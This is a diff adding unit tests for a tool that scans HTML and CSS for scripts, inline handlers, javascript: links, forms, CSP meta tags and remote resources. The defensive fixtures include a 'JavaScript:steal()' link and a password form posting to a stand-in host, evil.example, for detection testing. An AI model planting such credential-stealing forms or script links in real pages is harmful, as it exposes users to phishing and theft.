@@ -1,0 +1,53 @@
+import { describe, expect, it } from 'vitest';
+import { LineTable } from '../lineTable.ts';
+import { remoteUrlsOfStyle } from './css.ts';
+import { readHtml } from './html.ts';
+
+function html(text: string) {
+  const lines = new LineTable(text);
+  return readHtml({ text, position: (offset) => lines.position(offset), lineAt: (offset) => lines.lineAt(offset) });
+}
+
+describe('readHtml', () => {
+  it('lists scripts that run and leaves data blocks out', () => {
+    const { scripts } = html('<script src="a.js"></script>\n<script type="application/json">{"a":1}</script><script type=module>import "./b.js"</script><script type="text/template"><b></script>');
+    expect(scripts.map((script) => script.src ?? script.evidence)).toEqual(['a.js', 'import "./b.js"']);
+    expect(scripts[1]?.at.line).toBe(2);
+  });
+  it('hashes inline scripts as a policy would', () => {
+    // echo -n "alert('Hello, world.');" | openssl sha256 -binary | openssl base64, the example of the CSP specification.
+    expect(html("<script>alert('Hello, world.');</script>").scripts[0]?.hash).toBe('sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng=');
+  });
+  it('finds handlers, javascript: links, forms, meta policies and remote things', () => {
+    const facts = html(`<meta http-equiv="Content-Security-Policy" content="script-src 'self'"><base href="https://b.example/">
+<body onload="go()"><a href="javascript:void(0)">x</a><a href=" JavaScript:steal()">y</a>
+<form action="https://evil.example/login"><input type=password></form>
+<img src=//track.example/p.gif><link rel=stylesheet href="https://fonts.googleapis.com/css"><iframe src="https://f.example/"></iframe>
+<style>@import url("https://s.example/a.css");</style><a href="https://docs.example/">docs</a>`);
+    expect(facts.csp[0]?.policy).toBe("script-src 'self'");
+    expect(facts.base).toBe('https://b.example/');
+    expect(facts.handlers.map((handler) => handler.name)).toEqual(['onload']);
+    expect(facts.scriptLinks).toHaveLength(1);
+    expect(facts.forms).toMatchObject([{ action: 'https://evil.example/login', password: true }]);
+    expect(facts.remote.map((item) => `${item.use} ${item.url}`)).toEqual([
+      'form https://evil.example/login', 'image //track.example/p.gif', 'style https://fonts.googleapis.com/css', 'frame https://f.example/', 'style https://s.example/a.css',
+    ]);
+  });
+  it('survives broken pages', () => {
+    for (const text of ['', '<', '<script', '<script>never closed', '<a '.repeat(5000), '<div>'.repeat(20_000)]) expect(() => html(text)).not.toThrow();
+  });
+});
+
+describe('remoteUrlsOfStyle', () => {
+  it.each([
+    ['@import "https://a.example/x.css";', 'style'],
+    ['@font-face { src: url(//f.example/x.woff2) }', 'font'],
+    ['.a { background: url( "http://i.example/x.png" ) }', 'image'],
+    ['@import url(https://fonts.googleapis.com/css?family=Roboto);', 'font'],
+  ])('%s', (text, use) => {
+    expect(remoteUrlsOfStyle(text).map((item) => item.use)).toEqual([use]);
+  });
+  it.each(['/* @import "https://a.example/x.css"; */', '@namespace url(http://www.w3.org/1999/xhtml);', '.a { background: url(img/x.png) }', '.a { background: url("data:image/svg+xml;utf8,<svg xmlns=\'http://www.w3.org/2000/svg\'>") }', '// see https://a.example/'])('not %s', (text) => {
+    expect(remoteUrlsOfStyle(text)).toEqual([]);
+  });
+});
